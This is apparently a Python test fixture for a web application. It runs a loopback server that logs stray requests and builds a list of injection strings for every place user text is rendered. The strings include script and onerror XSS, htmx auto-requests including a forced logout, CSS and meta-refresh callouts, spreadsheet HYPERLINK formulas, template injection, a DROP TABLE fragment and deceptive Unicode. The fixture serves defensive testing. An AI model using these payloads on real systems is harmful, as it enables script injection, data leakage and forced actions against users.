"""Attacks on every place that somebody else's text is shown, and an ear that must hear no request."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

TRAP = "globalThis.trapped = true"
HIDDEN = "safe\u202etxt.exe\u2066 zero\u200bwidth \U000e0041\U000e0042 soft\u00adhyphen \ufeff a\u0300\u0301\u0302"


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server on the loopback that nobody may ask: its address, and what was asked all the same."""
    heard: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()


def attacks(ear: str) -> list[str]:
    """One line each: elements, attributes of ours and of htmx, Markdown, templates, formulas, addresses."""
    return [
        f"<script>{TRAP}</script>",
        f"<script src=//{ear}/script></script>",
        f"<img src=//{ear}/img onerror='{TRAP}'>",
        f'"><svg onload="{TRAP}"><image href=//{ear}/svg /></svg>',
        f"</textarea></title></style><iframe src=//{ear}/iframe></iframe>",
        f"<div hx-get=//{ear}/hx hx-trigger=load data-hx-get=//{ear}/hx2 hx-on::load='{TRAP}'>x</div>",
        "<div hx-post=/accounts/logout/ hx-trigger=load>x</div>",
        "<button data-key=1 data-copy=stolen data-show-keys>press</button>",
        f"<style>@import '//{ear}/css'; body {{ display: none }}</style><link rel=stylesheet href=//{ear}/link>",
        f"<base href=//{ear}/><meta http-equiv=refresh content='0;url=//{ear}/meta'>",
        f"<form action=//{ear}/form><input autofocus onfocus='{TRAP}'></form>",
        f"<object data=//{ear}/object></object><video src=//{ear}/video poster=//{ear}/poster autoplay></video>",
        f"![pixel](http://{ear}/markdown) ![x][r]\n\n[r]: http://{ear}/reference\n",
        f"[click](javascript:{TRAP}) [data](data:text/html,<script>{TRAP}</script>)",
        "{{ 7|add:7 }} {% debug %} {% include 'x' %} ${7*7} {{constructor.constructor('alert(1)')()}}",
        f'=HYPERLINK("http://{ear}/formula","x") +1+1 -1 @SUM(1) \t=1',
        "__proto__ constructor toString '; DROP TABLE x; -- %s %(x)s \\u0000 \\",
        HIDDEN,
    ]


class Hostile:
    """Texts of a full world (full_world.py): the attacks, cut to a paragraph, a line and a name."""

    def __init__(self, ear: str) -> None:
        self.ear = ear
        self.address = f"javascript:{TRAP}"
        self.paragraph = "\n\n".join(attacks(ear)) + "\n\n" + "W" * 5000
        self.line = f'=1+1"><img src=//{ear}/line onerror={TRAP}>'
        self.long_word = "=" + "Wide" * 24  # no place to break, and a formula
        self.count = 0

    def name(self) -> str:
        """Of at most 100 characters; every other one cannot be broken into lines."""
        self.count += 1
        return f"{self.count % 10}{self.long_word}"[:100] if self.count % 2 else f"{self.line}{self.count}"[:100]
